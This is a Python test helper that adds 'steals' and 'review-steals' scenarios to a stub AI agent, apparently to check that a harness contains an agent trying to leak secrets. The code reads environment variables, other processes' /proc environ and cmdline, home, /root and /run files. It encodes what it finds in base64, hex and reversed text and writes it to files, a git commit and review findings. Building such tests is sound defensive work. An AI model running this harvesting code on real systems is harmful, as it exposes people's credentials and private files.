"""The stub agent with two scenarios more: it carries off whatever it can reach, by every way out that it has.

    CLAUDE_COMMAND = command(FOLDER)

`steals` and `review-steals` look for secrets in their environment, in the memory of other processes, in the home and in
FOLDER, and say them in their result, in base64, in hex and backwards too. `steals` also puts them into files, into a
commit and into its message where it may, but for its own model's credential: a push of that is refused, and nothing
else would come to light.
"""

from __future__ import annotations

import base64
import contextlib
import os
import shlex
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

from tests import stub_agent
from tests.stub_agent import Run

OWN = "ANTHROPIC_API_KEY"
MOST = 100_000
PROGRAMS = ("github", "objects", ".pyenv", ".local", ".npm", ".nvm", "lib", "node_modules", "site-packages")


def found(folder: str) -> Iterator[str]:
    """Whatever can be read."""
    yield repr(dict(os.environ))
    yield from read(Path(".git"))
    for process in Path("/proc").glob("[0-9]*"):
        yield from (text for name in ("environ", "cmdline") for text in read(process / name))
    for place in (Path.home(), Path(folder or "/nowhere"), Path("/root"), Path("/run")):
        for top, folders, files in os.walk(place):
            folders[:] = [name for name in folders if name not in PROGRAMS]
            yield from (text for name in files for text in read(Path(top, name)))


def read(path: Path) -> Iterator[str]:
    try:
        with path.open("rb") as file:
            yield f"{path}: {file.read(20_000).decode('utf-8', 'replace')}"
    except OSError:
        return


def loot(folder: str, own: bool) -> str:
    """All of it, as one text in four forms."""
    text = ""
    for one in found(folder):
        text += f"{one}\n"
        if len(text) > MOST:
            break
    if not own:
        text = text.replace(os.environ.get(OWN, "-"), "-")
    data = text.encode("utf-8", "replace")
    return "\n".join([text, base64.b64encode(data).decode(), text[::-1], data.hex()])


def steals(run: Run) -> int:
    everything = loot(run.arg, own=False)
    Path("loot.txt").write_text(everything)
    message = Path(os.environ.get("TMPDIR", "/tmp"), "message")
    message.write_text(everything[:100_000])
    with contextlib.suppress(subprocess.CalledProcessError):
        stub_agent.git("add", "loot.txt")
        stub_agent.git("-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qF", str(message))
    Path("more-loot.txt").write_text(everything)
    sys.stderr.write(loot(run.arg, own=True))
    return run.good(loot(run.arg, own=True))


def review_steals(run: Run) -> int:
    everything = loot(run.arg, own=True)
    remark = {"path": "loot.txt", "line": 1, "severity": "high", "text": everything[:30_000]}
    elsewhere = {"path": everything[:300], "line": None, "severity": "low", "text": everything[-30_000:]}
    return run.answer(summary=everything[:60_000], verdict="comment", findings=[remark, elsewhere])


def main() -> int:
    stub_agent.SCENARIOS |= {"steals": steals, "review-steals": review_steals}
    return stub_agent.main(sys.argv[1:])


def command(folder: Path) -> str:
    """How to call it: nothing in the environment of an agent says where the tests are."""
    root = str(Path(__file__).parents[1])
    script = (
        f"import sys; sys.path.insert(0, {root!r}); from tests import hostile_agent; sys.exit(hostile_agent.main())"
    )
    return shlex.join([sys.executable, "-c", script, "--review", "review-steals", "steals", str(folder)])
